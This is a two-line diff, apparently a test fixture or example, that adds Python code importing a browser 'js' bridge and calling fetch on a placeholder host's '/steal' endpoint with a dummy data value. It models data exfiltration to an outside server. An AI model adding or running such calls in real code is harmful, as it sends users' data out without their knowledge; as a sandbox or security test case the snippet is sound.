@@ -1,0 +1,2 @@
+import js
+js.fetch("http://example.invalid/steal?data=1")
